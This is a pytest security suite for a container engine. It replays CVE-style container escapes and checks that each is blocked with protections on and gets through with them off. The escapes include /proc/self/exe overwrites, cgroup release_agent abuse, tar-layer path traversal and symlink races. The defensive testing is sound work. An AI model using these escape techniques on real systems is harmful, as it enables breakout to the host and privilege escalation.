"""The known ways out, as a table: each is tried and fails, and gets out once what stops it is switched off.

The rows are those of REFERENCE.md, section 3, in its order; ``seen_as`` are its second column. Where several
mechanisms are in the way, one alone must be enough: each is tried with all the others off.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import pytest

from runtime.containers import launch
from runtime.engine import Engine
from runtime.errors import EngineError
from runtime.kernel import syscalls
from runtime.model.container import Mount, MountType, PortBinding
from tests.engine import build_lab, network_lab
from tests.engine.escape_lab import SECRET, Attack, Lab, file_entry, link_entry, tried
from tests.engine.weakened.off import SwitchOff

pytestmark = pytest.mark.engine


@dataclass(frozen=True)
class Escape:
    """``off`` are the mechanisms in the way, ``premises`` what the attack needs to find ("{outside}" is the
    lab's directory); both are names of :mod:`tests.engine.weakened.mechanisms`."""

    name: str
    seen_as: tuple[str, ...]
    attack: Attack
    off: tuple[str, ...]
    premises: tuple[str, ...] = ()


# -- our own programs: CVE-2019-5736, CVE-2024-21626, CVE-2016-9962 --------------------------------


def entrypoint_is_our_interpreter(lab: Lab) -> str:
    return lab.run(("-c", "print('ran')"), image=lab.base, entrypoint=("/proc/self/exe",))


def exec_of_our_interpreter(lab: Lab) -> str:
    with lab.running(("sleep", "100"), image=lab.base) as container:
        return lab.exec(container, ["/proc/self/exe", "-c", "print('ran')"])


def _with_an_interpreter_to_lose(lab: Lab, attack: Callable[[Path], None]) -> str:
    """Monitors run from a copy of the interpreter, which the attack may spoil."""
    copy = lab.directory / "python3"
    shutil.copy(launch._interpreter(), copy)
    before = (copy.read_bytes(), copy.stat().st_mode)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(launch, "_interpreter", lambda: str(copy))
        attack(copy)
    return "" if (copy.read_bytes(), copy.stat().st_mode) == before else "changed the machine's interpreter"


def script_of_our_interpreter(lab: Lab) -> str:
    """A script whose interpreter is /proc/self/exe is run by ours, and changes it through itself."""
    code = b"#!/proc/self/exe\nimport os\nos.chmod('/proc/self/exe', 0o6777)\n"

    def attack(copy: Path) -> None:
        volume = Path(lab.engine.volumes.create("tools").mountpoint)
        (volume / "attack").write_bytes(code)
        (volume / "attack").chmod(0o755)
        mounts = (Mount(MountType.VOLUME, "tools", "/tools"),)
        home = lab.python("import sys; print(sys.prefix, end='')")
        lab.run(("/tools/attack",), image=lab.base, mounts=mounts, env=(f"PYTHONHOME={home}",))

    return _with_an_interpreter_to_lose(lab, attack)


def init_is_our_interpreter(lab: Lab) -> str:
    """Tracing shows /proc/1/exe, which is ours with --init."""
    return _with_an_interpreter_to_lose(
        lab, lambda copy: print(lab.shell("chmod 6777 /proc/1/exe", init=True, cap_add=("SYS_PTRACE",)))
    )


def init_has_more_rights(lab: Lab) -> str:
    """A container that may trace its first process must gain nothing by it."""
    script = "for n in 1 self; do grep -E 'Cap(Prm|Eff|Bnd)|Seccomp:' /proc/$n/status; echo --; done"
    first, own, _ = lab.shell(script, init=True, cap_add=("SYS_PTRACE",)).split("--")
    return "" if first.strip() == own.strip() else f"pid 1 has {first}"


def our_paths_in_init(lab: Lab) -> str:
    text = lab.shell(
        "tr '\\0' ' ' < /proc/1/cmdline; cat /proc/1/comm; tr '\\0' ' ' < /proc/1/environ", init=True
    )
    return (
        text
        if any(word in text for word in ("python", "prepared", str(lab.engine.context.paths.state)))
        else ""
    )


def _spy(lab: Lab, look: str) -> str:
    """What a process in the container sees of an exec that is about to become its program."""
    code = f"""
import os, time
print("watching", flush=True)
def program(pid):
    try:
        return os.readlink(f"/proc/{{pid}}/exe")
    except PermissionError:
        return ""
end = time.monotonic() + 20
while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) > 1:
            try:
                found = {look}
            except OSError:
                continue
            if found:
                print("saw", found, flush=True)
                raise SystemExit
"""
    with lab.running(("python3", "-c", code), "watching", image=lab.base) as container:
        lab.exec(container, ["true"])
        seen = lab.logs(container)
    return seen.partition("saw")[2]


def descriptors_of_an_exec(lab: Lab) -> str:
    # Those of the program itself, which opens its libraries, are its own.
    return _spy(
        lab,
        '(lambda found: [] if program(pid).endswith("/true") else found)'
        '([os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd") if int(n) > 2])',
    )


def title_of_an_exec(lab: Lab) -> str:
    return _spy(
        lab, '(lambda text: text if b"monitor" in text else b"")(open(f"/proc/{pid}/cmdline", "rb").read())'
    )


def working_directory_on_a_descriptor(lab: Lab) -> str:
    text = lab.shell("cat secret", working_dir="/proc/self/fd/100")
    return text if SECRET in text else ""


def working_directory_of_an_exec(lab: Lab) -> str:
    with lab.running(("sleep", "100")) as container:
        text = lab.exec(container, ["cat", "secret"], working_dir="/proc/self/fd/100")
    return text if SECRET in text else ""


def inherited_descriptor(lab: Lab) -> str:
    text = lab.shell("cat /proc/self/fd/100/secret")
    return text if SECRET in text else ""


def inherited_descriptor_of_an_exec(lab: Lab) -> str:
    with lab.running(("sleep", "100")) as container:
        text = lab.exec(container, ["cat", "/proc/self/fd/100/secret"])
    return text if SECRET in text else ""


# -- links of the image where programs trust: CVE-2019-19921, CVE-2025-31133 and after -------------


def proc_is_a_link(lab: Lab) -> str:
    """With /proc elsewhere nothing of it is hidden or write-protected."""
    return lab.shell(
        "head -c 1 /proc/interrupts | grep -q . && echo shown; touch -c /proc/sys && echo writable",
        image=lab.image({"proc": link_entry("/home")}),
    )


def dev_is_a_link(lab: Lab) -> str:
    return lab.shell("readlink /dev", image=lab.image({"dev": link_entry("/home")}))


def _devices_of_our_own(
    lab: Lab, entries: dict[str, str], script: str, more: tuple[Mount, ...] = (), **options: object
) -> str:
    """/dev is a volume that the attacker filled."""
    volume = Path(lab.engine.volumes.create("devices").mountpoint)
    for name, target in entries.items():
        (volume / name).symlink_to(target)
    (volume / "trap").write_text("trapped")
    if "null" not in entries:
        os.mknod(volume / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    mounts = (Mount(MountType.VOLUME, "devices", "/dev"), *more)
    return lab.shell(script, mounts=mounts, **options)


def null_is_a_link(lab: Lab) -> str:
    """What hides files is taken from /dev/null; a link there shows another file in their place."""
    return _devices_of_our_own(lab, {"null": "trap"}, "grep -o trapped /proc/interrupts")


def console_is_a_link(lab: Lab) -> str:
    """The terminal is bound over what /dev/console leads to."""
    text = _devices_of_our_own(
        lab,
        {"console": "/etc/group"},
        "test -c /etc/group && echo moved",
        tty=True,
        more=(Mount(MountType.BIND, "/dev/pts", "/dev/pts"),),
    )
    return text if "moved" in text else ""


def sysctl_goes_elsewhere(lab: Lab) -> str:
    """A file of the machine bound over one of /proc/sys, to which the engine then writes."""
    name = "net.ipv4.ip_unprivileged_port_start"
    mounts = (Mount(MountType.BIND, str(lab.outside / "secret"), f"/proc/sys/{name.replace('.', '/')}"),)
    lab.shell("true", mounts=mounts, sysctls={name: "99"})
    return lab.planted()


# -- races on shared places: CVE-2021-30465, CVE-2024-45310, CVE-2018-15664, CVE-2026-41568 --------


def mount_point_behind_a_link(lab: Lab) -> str:
    image = lab.image({"data": link_entry(str(lab.outside))})
    lab.shell("true", image=image, mounts=(Mount(MountType.TMPFS, "", "/data/made"),))
    return lab.planted()


def mount_point_swapped(lab: Lab) -> str:
    """One container exchanges a directory of a volume with a link while others mount below it."""
    lab.engine.volumes.create("shared")
    volume = Mount(MountType.VOLUME, "shared", "/v")
    with lab.swapping("/v", mounts=(volume,)):
        for attempt in range(4):
            below = (Mount(MountType.TMPFS, "", f"/v/dir/x{attempt}{n}") for n in range(12))
            with suppress(EngineError):
                lab.shell("true", mounts=(volume, *below))
            if lab.planted():
                break
    return lab.planted()


def copied_out_while_swapped(lab: Lab) -> str:
    with lab.swapping("/swap") as container:
        for _ in range(60):
            stream = io.BytesIO()
            try:
                lab.engine.containers.copy_from(container.id, "/swap/dir/secret", stream)
            except EngineError:
                continue
            if SECRET.encode() in stream.getvalue():
                return SECRET
    return ""


def copied_in_while_swapped(lab: Lab) -> str:
    (lab.directory / "planted").write_text("planted")
    with lab.swapping("/swap") as container:
        for _ in range(60):
            try:
                lab.engine.containers.copy_to(container.id, str(lab.directory / "planted"), "/swap/dir/")
            except EngineError:
                continue
            if lab.planted():
                break
    return lab.planted()


# -- programs of the container on the machine: CVE-2019-14271, CVE-2022-1227, CVE-2026-41567 -------


def _trap(lab: Lab) -> bytes:
    return f"#!/bin/sh\necho ran >> {lab.outside}/ran\n".encode()


def _with_its_own_tools(lab: Lab, use: Callable[[str], object]) -> str:
    entries = {f"bin/{name}": file_entry(_trap(lab)) for name in ("tar", "ps")}
    with lab.running(("sleep", "100"), image=lab.image(entries)) as container:
        use(container.id)
    return lab.planted()


def cp_runs_its_tar(lab: Lab) -> str:
    return _with_its_own_tools(lab, lambda id: lab.engine.containers.copy_from(id, "/etc", io.BytesIO()))


def export_runs_its_tar(lab: Lab) -> str:
    return _with_its_own_tools(lab, lambda id: lab.engine.containers.export(id, io.BytesIO()))


def top_runs_its_ps(lab: Lab) -> str:
    return _with_its_own_tools(lab, lab.engine.containers.top)


def module_of_the_container(lab: Lab) -> str:
    """The container has a Python module where ours would be looked for."""
    code = b"print('with', [l for l in open('/proc/self/status') if l.startswith('CapEff')][0], flush=True)\n"
    place = os.path.dirname(os.__file__).lstrip("/") + "/antigravity.py"
    return lab.shell("true", image=lab.image({place: file_entry(code)}))


# -- layers: CVE-2021-32760, CVE-2025-47290, CVE-2026-17106 ----------------------------------------


def _layer(lab: Lab, *entries: tuple[str, bytes, str]) -> str:
    """(name, type, target or content) of each."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, kind, text in entries:
            entry = tarfile.TarInfo(name)
            entry.type = kind
            content = b""
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                entry.linkname = text
            else:
                content = text.encode()
                entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    buffer.seek(0)
    lab.engine.images.import_(buffer, "hostile:latest")
    return lab.planted()


def _up(path: Path) -> str:
    return "../" * 20 + str(path).lstrip("/")


def layer_with_dots(lab: Lab) -> str:
    return _layer(lab, (_up(lab.outside / "planted"), tarfile.REGTYPE, "evil"))


def layer_through_a_link(lab: Lab) -> str:
    return _layer(lab, ("link", tarfile.SYMTYPE, str(lab.outside)), ("link/planted", tarfile.REGTYPE, "evil"))


def layer_over_a_link(lab: Lab) -> str:
    secret = str(lab.outside / "secret")
    return _layer(lab, ("x", tarfile.SYMTYPE, secret), ("x", tarfile.REGTYPE, "evil"))


def layer_with_a_hard_link(lab: Lab) -> str:
    secret = _up(lab.outside / "secret")
    return _layer(lab, ("x", tarfile.LNKTYPE, secret), ("x", tarfile.REGTYPE, "evil"))


def layer_with_a_whiteout(lab: Lab) -> str:
    return _layer(lab, (_up(lab.outside / ".wh.secret"), tarfile.REGTYPE, ""))


def layer_bomb(lab: Lab) -> str:
    """More than there is room for (the premise makes the room small)."""
    _layer(lab, *((f"f{number}", tarfile.REGTYPE, "x" * 10_000) for number in range(200)))
    return "unpacked 2 MB where 1 MB is free"


def layer_with_a_device(lab: Lab) -> str:
    """A node that comes with the image: /dev/fuse, /dev/net/tun, /dev/loop-control."""
    nodes: dict[str, tuple[tarfile.TarInfo, bytes]] = {}
    for minor in (229, 200, 237):
        entry = tarfile.TarInfo()
        entry.type, entry.devmajor, entry.devminor, entry.mode = tarfile.CHRTYPE, 10, minor, 0o666
        nodes[f"n{minor}"] = entry, b""
    return lab.shell("for n in /n*; do (: < $n) 2>/dev/null && echo opened $n; done", image=lab.image(nodes))


# -- rights: CVE-2022-24769, CVE-2020-15257, CVE-2022-0492, CVE-2024-40635, CVE-2024-9676 ----------


def inheritable_capabilities(lab: Lab) -> str:
    with lab.running(("sleep", "100")) as container:
        text = lab.exec(container, ["grep", "CapInh", "/proc/self/status"])
    text += lab.shell("grep CapInh /proc/self/status")
    return text if any(int(line.split()[1], 16) for line in text.splitlines()) else ""


def abstract_socket(lab: Lab) -> str:
    return lab.shell("grep -o '@.*tuidock.*' /proc/net/unix", network_mode="host")


def release_agent(lab: Lab) -> str:
    """The kernel runs a hierarchy's agent as root, outside. The hierarchy is a new one of the attack's."""
    agent = lab.directory / "agent"
    agent.write_bytes(_trap(lab))
    agent.chmod(0o755)
    name = f"td{os.urandom(4).hex()}"
    try:
        lab.shell(
            f"mkdir /tmp/cg && mount -t cgroup -o none,name={name} none /tmp/cg && mkdir /tmp/cg/x || exit;"
            f" echo {agent} > /tmp/cg/release_agent && echo 1 > /tmp/cg/x/notify_on_release;"
            " sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'; sleep 2"
        )
        return lab.planted()
    finally:
        _end_hierarchy(lab, name)


def _end_hierarchy(lab: Lab, name: str) -> None:
    """A hierarchy goes with its last mount, once the groups in it are gone (after an RCU grace period)."""
    place = lab.directory / "hierarchy"
    place.mkdir()
    deadline = time.monotonic() + 60
    while f":name={name}:" in Path("/proc/self/cgroup").read_text():
        assert time.monotonic() < deadline, f"the hierarchy {name} stays"
        syscalls.mount("none", place, "cgroup", 0, f"none,name={name}")
        with suppress(FileNotFoundError):
            (place / "x").rmdir()
        time.sleep(0.1)
        syscalls.umount2(place)
        time.sleep(0.1)


def user_number_wraps(lab: Lab) -> str:
    return "root" if lab.run(("id", "-u"), user="4294967296") == "0\n" else ""


def user_number_in_hexadecimal(lab: Lab) -> str:
    return "root" if lab.run(("id", "-u"), user="0x0") == "0\n" else ""


def user_number_of_the_image_wraps(lab: Lab) -> str:
    image = lab.image({"etc/passwd": file_entry(b"app:x:4294967296:4294967296::/:/bin/sh\n", 0o644)})
    return "root" if lab.run(("id", "-u"), image=image, user="app") == "0\n" else ""


def passwd_on_a_descriptor(lab: Lab) -> str:
    """A file of the machine is read as the container's /etc/passwd."""
    (lab.outside / "secret").write_text("someone:x:4711:4711::/:/bin/sh\n")
    image = lab.image({"etc/passwd": link_entry("/proc/self/fd/100")})
    return "4711" if "4711" in lab.run(("id", "-u"), image=image, user="someone") else ""


def passwd_is_a_pipe(lab: Lab) -> str:
    """A start that waits for a FIFO to be written holds whoever started it for ever."""
    lab.engine.volumes.create("etc")
    fifo = Path(lab.engine.volumes.get("etc").mountpoint) / "passwd"
    os.mkfifo(fifo)
    fifo.with_name("group").touch()
    writer = subprocess.Popen(
        [sys.executable, "-c", f"open({str(fifo)!r}, 'w').write('someone:x:1:1::/:/bin/sh\\n')"]
    )
    try:
        mounts = (Mount(MountType.VOLUME, "etc", "/etc"),)
        lab.run(("true",), user="someone", mounts=mounts)
        return "waited for the FIFO and read it"
    finally:
        writer.kill()
        writer.wait()


# -- volumes and state: CVE-2022-23648, CVE-2024-9407, CVE-2024-25621 ------------------------------


def volume_of_the_image_leads_out(lab: Lab) -> str:
    """What the image has at a volume's place is copied into it; that place is a link or has dots."""
    for entries, place in (
        ({}, f"/../../../../../../../..{lab.outside}"),
        ({"data": link_entry(str(lab.outside))}, "/data"),
    ):
        image = lab.image(dict(entries), changes=[f"VOLUME {place}"])
        if SECRET in lab.shell(f"cat {place}/secret", image=image):
            return SECRET
    return ""


def mount_of_a_build_leads_out(lab: Lab) -> str:
    """``RUN --mount`` of a link in the context; options that a kernel might read are no options of ours."""
    context = build_lab.fill(lab.directory / "context", {"out": f"-> {lab.outside}"})
    told = build_lab.Recorder()
    crafted = "bind-propagation=/", "from=/", "rw=true,lowerdir=/"
    for options in ("source=out", "source=../outside", *crafted):
        run = f"RUN --mount=type=bind,target=/x,{options} cat /x/secret /x/etc/hostname"
        with suppress(EngineError):
            build_lab.build(lab.engine, context, f"FROM {lab.busybox}\n{run}", recorder=told)
    return SECRET if SECRET in "\n".join(told.lines) else ""


def part_of_a_volume_leads_out(lab: Lab) -> str:
    """``volume-subpath`` over a link that a container left in the volume."""
    (Path(lab.engine.volumes.create("parts").mountpoint) / "part").symlink_to(lab.outside)
    mounts = (Mount(MountType.VOLUME, "parts", "/part", subpath="part"),)
    text = lab.shell("cat /part/secret", mounts=mounts)
    return text if SECRET in text else ""


def state_for_others(lab: Lab) -> str:
    """Somebody else on the machine looks for set-id programs in layers, volumes and upper directories."""
    root = lab.new_root()
    shutil.rmtree(root)
    with_root = Engine(root)
    try:
        paths = with_root.context.paths
        named = [str(path) for path in (paths.layers, paths.volumes, paths.containers, paths.run_containers)]
        script = (
            f"import os\nos.setuid(65534)\nprint([n for n in {named!r} if os.access(n, os.R_OK | os.X_OK)])"
        )
        done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    finally:
        with_root.close()
    return "" if done.stdout == "[]\n" else done.stdout


OUTSIDE = ("leak={outside}",)
OURS = ("CVE-2019-5736",)
ESCAPES = (
    Escape("entrypoint-proc-self-exe", OURS, entrypoint_is_our_interpreter, ("no magic links as programs",)),
    Escape("exec-proc-self-exe", OURS, exec_of_our_interpreter, ("no magic links as programs",)),
    Escape("script-proc-self-exe", OURS, script_of_our_interpreter, ("interpreter sealed",)),
    Escape("init-exe", OURS, init_is_our_interpreter, ("interpreter sealed",)),
    Escape("init-rights", (), init_has_more_rights, ("init's credentials",)),
    Escape("init-title", (), our_paths_in_init, ("neutral titles",)),
    Escape(
        "workdir-descriptor",
        ("CVE-2024-21626",),
        working_directory_on_a_descriptor,
        ("working directory proven",),
        OUTSIDE,
    ),
    Escape(
        "exec-workdir-descriptor",
        ("CVE-2024-21626",),
        working_directory_of_an_exec,
        ("working directory proven",),
        OUTSIDE,
    ),
    Escape("leaked-descriptor", ("CVE-2024-21626",), inherited_descriptor, ("descriptors closed",), OUTSIDE),
    Escape(
        "exec-leaked-descriptor",
        ("CVE-2024-21626",),
        inherited_descriptor_of_an_exec,
        ("descriptors closed",),
        OUTSIDE,
    ),
    Escape("exec-descriptors", ("CVE-2016-9962",), descriptors_of_an_exec, ("not dumpable",), ("slow=1.5",)),
    Escape("exec-title", (), title_of_an_exec, ("neutral titles",), ("slow=1.5",)),
    Escape(
        "proc-link",
        ("CVE-2019-19921", "CVE-2025-52881"),
        proc_is_a_link,
        ("no links at trusted places", "masks refuse links"),
    ),
    Escape(
        "dev-link",
        ("CVE-2025-31133", "CVE-2026-41579"),
        dev_is_a_link,
        ("no links at trusted places", "masks prove /dev/null"),
    ),
    Escape("null-link", ("CVE-2025-31133",), null_is_a_link, ("masks prove /dev/null",)),
    Escape("console-link", ("CVE-2025-52565",), console_is_a_link, ("no links at trusted places",)),
    Escape(
        "sysctl-elsewhere",
        ("CVE-2025-52881",),
        sysctl_goes_elsewhere,
        ("nothing over /proc", "proven procfs"),
    ),
    Escape("mount-over-link", ("CVE-2021-30465",), mount_point_behind_a_link, ("one door for paths",)),
    Escape(
        "mount-swapped", ("CVE-2021-30465", "CVE-2024-45310"), mount_point_swapped, ("one door for paths",)
    ),
    Escape(
        "cp-out-swapped",
        ("CVE-2018-15664", "CVE-2026-41568"),
        copied_out_while_swapped,
        ("one door for paths",),
    ),
    Escape(
        "cp-in-swapped",
        ("CVE-2018-15664", "CVE-2026-41568"),
        copied_in_while_swapped,
        ("one door for paths",),
    ),
    Escape("cp-tar", ("CVE-2019-14271",), cp_runs_its_tar, ("nothing run out of it",)),
    Escape("export-tar", ("CVE-2026-41567",), export_runs_its_tar, ("nothing run out of it",)),
    Escape("top-ps", ("CVE-2022-1227",), top_runs_its_ps, ("nothing run out of it",)),
    Escape(
        "late-import",
        ("CVE-2019-14271",),
        module_of_the_container,
        ("no imports inside",),
        ("late import=antigravity",),
    ),
    Escape("layer-dots", ("CVE-2021-32760", "CVE-2025-47290"), layer_with_dots, ("layers by descriptor",)),
    Escape("layer-link", ("CVE-2025-47290",), layer_through_a_link, ("layers by descriptor",)),
    Escape("layer-over-link", ("CVE-2021-32760",), layer_over_a_link, ("layers by descriptor",)),
    Escape("layer-hard-link", ("CVE-2026-17106",), layer_with_a_hard_link, ("layers by descriptor",)),
    Escape("layer-whiteout", ("CVE-2026-17106",), layer_with_a_whiteout, ("layers by descriptor",)),
    Escape("layer-bomb", ("CVE-2026-17106",), layer_bomb, ("limits of layers",), ("room=1000000",)),
    Escape("layer-device", ("CVE-2026-17106",), layer_with_a_device, ("device rules",)),
    Escape("inheritable", ("CVE-2022-24769",), inheritable_capabilities, ("no inheritable capabilities",)),
    Escape("abstract-socket", ("CVE-2020-15257",), abstract_socket, ("socket in a 0700 directory",)),
    Escape(
        "release-agent", ("CVE-2022-0492",), release_agent, ("capabilities", "seccomp", "namespace=cgroup")
    ),
    Escape("user-wraps", ("CVE-2024-40635",), user_number_wraps, ("ids in range",)),
    Escape("user-hex", ("CVE-2024-40635",), user_number_in_hexadecimal, ("ids in range",)),
    Escape("user-image-wraps", ("CVE-2024-40635",), user_number_of_the_image_wraps, ("ids in range",)),
    Escape(
        "passwd-descriptor",
        ("CVE-2024-9676",),
        passwd_on_a_descriptor,
        ("one door for paths",),
        ("leak={outside}/secret",),
    ),
    Escape("passwd-fifo", ("CVE-2024-9676",), passwd_is_a_pipe, ("account files proven",)),
    Escape(
        "volume-of-image", ("CVE-2022-23648",), volume_of_the_image_leads_out, ("links stay in the layers",)
    ),
    Escape("build-mount", ("CVE-2024-9407",), mount_of_a_build_leads_out, ("links stay in the layers",)),
    Escape("volume-subpath", ("CVE-2022-23648",), part_of_a_volume_leads_out, ("one door for paths",)),
    Escape("state-for-others", ("CVE-2024-25621",), state_for_others, ("state 0700",)),
)
LAYERED = [(row, kept) for row in ESCAPES if len(row.off) > 1 for kept in row.off]


def off(lab: Lab, *names: str) -> list[str]:
    return [name.format(outside=lab.outside) for name in names]


@pytest.mark.parametrize("row", ESCAPES, ids=lambda row: row.name)
def test_there_is_no_way_out(lab: Lab, switch_off: SwitchOff, row: Escape) -> None:
    switch_off(*off(lab, *row.premises))
    assert tried(row.attack, lab) == ""


@pytest.mark.parametrize("row", ESCAPES, ids=lambda row: row.name)
def test_there_is_one_without_what_stops_it(lab: Lab, switch_off: SwitchOff, row: Escape) -> None:
    """The same attack gets out, so that the test above can fail."""
    switch_off(*off(lab, *row.premises, *row.off))
    assert row.attack(lab), f"{row.name} got nothing: with {row.off} off, its test proves nothing"


@pytest.mark.parametrize(("row", "kept"), LAYERED, ids=[f"{row.name}-{kept}" for row, kept in LAYERED])
def test_one_layer_is_enough(lab: Lab, switch_off: SwitchOff, row: Escape, kept: str) -> None:
    switch_off(*off(lab, *row.premises, *(name for name in row.off if name != kept)))
    assert tried(row.attack, lab) == ""


def test_the_document_and_the_table_name_the_same() -> None:
    """docs/security.md claims no more than is tried here, and no less."""
    document = Path(__file__).parents[2] / "docs" / "security.md"
    claimed = set(re.findall(r"CVE-\d+-\d+", document.read_text(encoding="utf-8")))
    assert claimed == {cve for row in ESCAPES for cve in row.seen_as} | {"CVE-2021-20199"}


# -- published ports: CVE-2021-20199 ---------------------------------------------------------------

RELAY = """
import ctypes, os, socket, sys
server = socket.create_server((sys.argv[1], 0))
server.settimeout(20)
print(server.getsockname()[1], flush=True)
asked, _ = server.accept()
space = os.open(f"/proc/{sys.argv[2]}/ns/net", os.O_RDONLY)
assert ctypes.CDLL(None).setns(space, 0) == 0
asked.sendall(socket.create_connection(("127.0.0.1", 80)).recv(100))
"""
"""What a port published through a relay in the container's namespace is like."""


@pytest.fixture
def wire() -> Iterator[network_lab.Lab]:
    root = Path(tempfile.mkdtemp(prefix="tdn"))
    made = network_lab.Lab(root)
    try:
        yield made
    finally:
        made.close()
        shutil.rmtree(root)


def test_who_comes_through_a_published_port_keeps_its_address(wire: network_lab.Lab) -> None:
    """CVE-2021-20199: a service that trusts 127.0.0.1 must not see the world as 127.0.0.1."""
    outside = wire.outside()
    published = wire.container(ports=[PortBinding(80)], serve="one")
    assert outside.ask(wire.HERE, published.ports[0].host_port) == [f"one {wire.THERE}"]


def test_through_a_relay_it_would_not(wire: network_lab.Lab) -> None:
    outside = wire.outside()
    published = wire.container(serve="one")
    published.run("ip", "link", "set", "lo", "up")
    argv = [sys.executable, "-c", RELAY, wire.HERE, str(published.pid)]
    relay = subprocess.Popen(argv, stdout=subprocess.PIPE, text=True)
    try:
        assert relay.stdout is not None
        assert outside.ask(wire.HERE, int(relay.stdout.readline())) == ["one 127.0.0.1"]
    finally:
        relay.kill()
        relay.wait()
